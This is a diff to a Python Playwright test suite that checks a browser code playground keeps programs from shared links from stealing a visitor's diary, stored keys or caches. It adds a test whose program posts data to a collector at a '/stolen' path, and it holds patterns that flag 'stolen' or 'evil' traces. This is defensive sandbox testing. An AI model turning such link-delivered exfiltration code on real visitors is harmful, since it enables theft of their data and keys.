@@ -8,6 +8,7 @@ each program tries, at the end nothing has arrived, and everything is as it was.
 from __future__ import annotations
 
 import base64
+import contextlib
 import itertools
 import json
 import zlib
@@ -17,11 +18,10 @@ from typing import Any
 import pytest
 from model_server import ModelServer, open_model_server
 from playground import Playground
-from playwright.sync_api import Browser
+from playwright.sync_api import Browser, TimeoutError
 
 KEY = "sk-attack-test-key-9876543210"
 SECRET = "the visitor's diary"
-MARK = "stolen"
 numbers = itertools.count(1)
 
 # {url} is the collector. Each is run as a link's program; errors are expected and of no matter.
@@ -114,16 +114,21 @@ def visit(browser: Browser, site_url: str, account: ModelServer) -> Iterator[Pla
         assert problems == []
 
 
-BELONGINGS = """async () => ({
-    diary: new TextDecoder().decode(playground.readFile("diary.txt")),
-    stored: Object.keys(localStorage).filter((name) => /stolen|evil/.test(localStorage[name])),
-    caches: await Promise.all((await caches.keys()).map(async (name) =>
-        (await (await caches.open(name)).keys()).map((request) => request.url)
-            .filter((url) => /stolen|evil/.test(url)))),
-    title: document.title,
-    hash: location.pathname,
-    polluted: ({}).polluted ?? null,
-})"""
+BELONGINGS = """async () => {
+    const kept = [];
+    for (const name of await caches.keys()) {
+        for (const { url } of await (await caches.open(name)).keys()) kept.push(url);
+    }
+    return {
+        diary: new TextDecoder().decode(playground.readFile("diary.txt")),
+        settings: localStorage["lispcore.settings"] ?? null,
+        keys: localStorage["lispcore.keys"] ?? null,
+        foreign: kept.filter((url) => /stolen|evil/.test(url)),
+        title: document.title,
+        place: location.pathname,
+        polluted: ({}).polluted ?? null,
+    };
+}"""
 
 
 def run_and_refuse(visit: Playground, code: str, seconds: float = 20) -> Any:
@@ -142,7 +147,8 @@ def run_and_refuse(visit: Playground, code: str, seconds: float = 20) -> Any:
         if page.evaluate("window.ended"):
             return page.evaluate("window.ended")
         if refuse.is_visible():
-            refuse.click()
+            with contextlib.suppress(TimeoutError):  # the program may have ended meanwhile
+                refuse.click(timeout=500)
         page.wait_for_timeout(50)
     return page.evaluate("() => { playground.stop(); return null; }")
 
@@ -168,6 +174,18 @@ def test_a_stranger_gets_nothing(
     assert len(visit.page.context.pages) == 1
     # What follows in the same page is as if nothing had been.
     assert KEY not in visit.page.content()
+
+
+def test_a_visitor_who_allows_it_does_send(visit: Playground, collector: ModelServer) -> None:
+    """The collector hears what is sent: were a wall to fall, the tests above would."""
+    collector.received.clear()
+    code = f'(http/post "{collector.url}/stolen" "given away")'
+    visit.page.evaluate("hash => { location.hash = hash; }", link(code))
+    visit.page.wait_for_function("text => playground.getCode() === text", arg=code)
+    visit.begin()
+    visit.allow("once")
+    visit.outcome()
+    assert [each.path for each in collector.posts()] == ["/stolen"]
 
 
 def test_what_follows_is_the_visitors_own_again(visit: Playground) -> None:
